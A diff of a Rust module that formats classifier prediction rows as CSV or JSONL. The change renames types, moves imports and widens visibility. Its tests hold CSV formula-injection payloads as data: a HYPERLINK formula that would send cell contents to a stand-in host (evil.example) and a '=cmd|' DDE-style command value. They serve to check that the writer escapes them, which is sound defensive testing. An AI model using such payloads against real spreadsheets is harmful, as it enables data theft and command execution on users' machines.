@@ -2,31 +2,31 @@
 
 use std::fmt::Write as _;
 
-use calmix::command::predict_args::RowKind;
-use calmix::io::shown::is_command;
-use calmix::run::csv_line::{CsvCell, csv_line};
+use calmix_io::shown::is_command;
+use calmix_run::csv_line::{CsvCell, csv_line};
 use serde::Serialize;
 
-use crate::model::Prediction;
+use super::prediction_rule::Prediction;
+use crate::command::predict_args::RowKind;
 
-/// The content of a row: the prediction for an image, or the reason why it could not be read.
+/// The content of a row: the prediction for an input, or the reason why it could not be read.
 #[derive(Debug)]
-pub(crate) struct PredictedImage<'a> {
-    /// As [`escaped`] writes it.
-    pub(crate) path: String,
-    pub(crate) said: Option<&'a Prediction>,
-    pub(crate) error: Option<String>,
+pub struct PredictedRow<'a> {
+    /// The name of the input, as [`escaped`] writes it.
+    pub name: String,
+    pub prediction: Option<&'a Prediction>,
+    pub error: Option<String>,
 }
 
 /// The format of rows.
 #[derive(Debug)]
-pub(crate) struct RowFormat<'a> {
-    pub(crate) kind: RowKind,
-    pub(crate) classes: &'a [String],
+pub struct RowFormat<'a> {
+    pub kind: RowKind,
+    pub classes: &'a [String],
     /// Whether the probabilities of all classes are written.
-    pub(crate) probabilities: bool,
+    pub probabilities: bool,
     /// Rows of a Parquet file.
-    pub(crate) rows_of_part: u64,
+    pub rows_of_part: u64,
 }
 
 #[derive(Serialize)]
@@ -44,12 +44,12 @@ struct JsonRow<'a> {
 
 impl RowFormat<'_> {
     /// The name of a class.
-    pub(crate) fn class(&self, class: usize) -> &str {
+    pub fn class(&self, class: usize) -> &str {
         self.classes.get(class).map_or("", String::as_str)
     }
 
     /// The first line; empty if there is none.
-    pub(crate) fn header(&self) -> String {
+    pub fn header(&self) -> String {
         if self.kind != RowKind::Csv {
             return String::new();
         }
@@ -61,7 +61,7 @@ impl RowFormat<'_> {
     }
 
     /// The beginning of every row of this path, and of no row of another path.
-    pub(crate) fn beginning(&self, path: &str) -> String {
+    pub fn beginning(&self, path: &str) -> String {
         match self.kind {
             // With an empty cell behind it, and without the end of the line.
             RowKind::Csv => csv_line([text_cell(path), CsvCell::text("")]).trim_end_matches('\n').to_owned(),
@@ -70,49 +70,51 @@ impl RowFormat<'_> {
         }
     }
 
-    /// The line of an image. Parquet has none.
-    pub(crate) fn row(&self, image: &PredictedImage<'_>) -> String {
+    /// The line of an input. Parquet has none.
+    pub fn row(&self, row: &PredictedRow<'_>) -> String {
         match self.kind {
-            RowKind::Csv => self.csv(image),
-            RowKind::Jsonl => self.json(image),
+            RowKind::Csv => self.csv(row),
+            RowKind::Jsonl => self.json(row),
             RowKind::Parquet => String::new(),
         }
     }
 
-    fn json(&self, PredictedImage { path, said, error }: &PredictedImage<'_>) -> String {
-        let set = said.and_then(|said| said.set.as_ref());
+    fn json(&self, PredictedRow { name, prediction, error }: &PredictedRow<'_>) -> String {
+        let set = prediction.and_then(|prediction| prediction.set.as_ref());
         let row = JsonRow {
-            path,
-            label: said.map(|said| self.class(said.label)),
-            confidence: said.map(|said| said.confidence),
-            margin: said.map(|said| said.margin),
+            path: name,
+            label: prediction.map(|prediction| self.class(prediction.label)),
+            confidence: prediction.map(|prediction| prediction.confidence),
+            margin: prediction.map(|prediction| prediction.margin),
             set: set.map(|set| set.iter().map(|&class| self.class(class as usize)).collect()),
-            abstain: said.and_then(|said| said.abstain),
+            abstain: prediction.and_then(|prediction| prediction.abstain),
             error: error.as_deref(),
-            probabilities: said.filter(|_| self.probabilities).map(|said| said.probabilities.as_slice()),
+            probabilities: prediction
+                .filter(|_| self.probabilities)
+                .map(|prediction| prediction.probabilities.as_slice()),
         };
         // Texts and finite numbers can always be written.
         serde_json::to_string(&row).unwrap_or_default() + "\n"
     }
 
-    fn csv(&self, PredictedImage { path, said, error }: &PredictedImage<'_>) -> String {
+    fn csv(&self, PredictedRow { name, prediction, error }: &PredictedRow<'_>) -> String {
         let class = |class: usize| escaped(self.class(class).as_bytes());
-        let set = said.and_then(|said| said.set.as_ref());
+        let set = prediction.and_then(|prediction| prediction.set.as_ref());
         let set = set.map(|set| {
             let members = set.iter().map(|&member| class(member as usize).replace('|', "\\x7c"));
             members.collect::<Vec<_>>().join("|")
         });
         let mut cells = vec![
-            text_cell(path),
-            text_cell(&said.map(|said| class(said.label)).unwrap_or_default()),
-            CsvCell::plain(said.map(|said| said.confidence)),
-            CsvCell::plain(said.map(|said| said.margin)),
+            text_cell(name),
+            text_cell(&prediction.map(|prediction| class(prediction.label)).unwrap_or_default()),
+            CsvCell::plain(prediction.map(|prediction| prediction.confidence)),
+            CsvCell::plain(prediction.map(|prediction| prediction.margin)),
             text_cell(&set.unwrap_or_default()),
-            CsvCell::plain(said.and_then(|said| said.abstain)),
+            CsvCell::plain(prediction.and_then(|prediction| prediction.abstain)),
             text_cell(&escaped(error.as_deref().unwrap_or_default().as_bytes())),
         ];
         if self.probabilities {
-            let probability = |class| said.and_then(|said| said.probabilities.get(class));
+            let probability = |class| prediction.and_then(|prediction| prediction.probabilities.get(class));
             cells.extend((0..self.classes.len()).map(|class| CsvCell::plain(probability(class))));
         }
         csv_line(cells)
@@ -121,7 +123,7 @@ impl RowFormat<'_> {
 
 /// Escapes bytes reversibly as text on one line: bytes that are not UTF-8, control characters and the backslash are written
 /// `\xNN`.
-pub(crate) fn escaped(bytes: &[u8]) -> String {
+pub fn escaped(bytes: &[u8]) -> String {
     let mut text = String::with_capacity(bytes.len());
     let hexadecimal = |bytes: &[u8], text: &mut String| {
         for byte in bytes {
@@ -159,7 +161,7 @@ mod tests {
     #[test]
     fn csv_guards_spreadsheet_formulas() {
         let classes = ["=HYPERLINK(\"http://evil.example/?\"&A2,\"cat\")".to_owned(), "-1".to_owned()];
-        let said = Prediction {
+        let prediction = Prediction {
             label: 0,
             confidence: 0.75,
             margin: -0.5,
@@ -169,11 +171,13 @@ mod tests {
         };
         let format =
             RowFormat { kind: RowKind::Csv, classes: &classes, probabilities: false, rows_of_part: 1 };
-        let row = |path: &str, said| format.row(&PredictedImage { path: path.to_owned(), said, error: None });
+        let row = |path: &str, prediction| {
+            format.row(&PredictedRow { name: path.to_owned(), prediction, error: None })
+        };
         let class = "'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"cat\"\")";
         let expected = format!("'=cmd|calc.png,\"{class}\",0.75,-0.5,\"{class}|-1\",false,\n");
-        assert_eq!(row("=cmd|calc.png", Some(&said)), expected);
-        let other = Prediction { label: 1, set: Some(vec![1, 0]), ..said.clone() };
+        assert_eq!(row("=cmd|calc.png", Some(&prediction)), expected);
+        let other = Prediction { label: 1, set: Some(vec![1, 0]), ..prediction.clone() };
         assert!(row("a", Some(&other)).starts_with("a,-1,0.75,-0.5,\"'-1|=HYPERLINK("));
         let paths = ["=a", "'=a", "''=a", "\"=a", "+a", "-a", "@a", "a", "-1", "'-1"];
         for path in paths {
@@ -187,7 +191,7 @@ mod tests {
     #[test]
     fn a_row_is_one_line_whatever_the_names() {
         let classes = ["cat, big".to_owned(), "a|b\n".to_owned()];
-        let said = Prediction {
+        let prediction = Prediction {
             label: 0,
             confidence: 0.75,
             margin: 0.5,
@@ -200,8 +204,8 @@ mod tests {
         let path = escaped(b"a\xffb\n\"\\.png");
         assert_eq!(path, r#"a\xffb\x0a"\x5c.png"#);
         let (csv, jsonl) = (format(RowKind::Csv, true), format(RowKind::Jsonl, false));
-        let image = PredictedImage { path: path.clone(), said: Some(&said), error: None };
-        let bad = PredictedImage { path: path.clone(), said: None, error: Some("no, image".to_owned()) };
+        let image = PredictedRow { name: path.clone(), prediction: Some(&prediction), error: None };
+        let bad = PredictedRow { name: path.clone(), prediction: None, error: Some("no, image".to_owned()) };
         let row = csv.row(&image);
         let start = r#""a\xffb\x0a""\x5c.png","#;
         assert_eq!(row, format!("{start}\"cat, big\",0.75,0.5,\"cat, big|a\\x7cb\\x0a\",false,,0.75,0.25\n"));
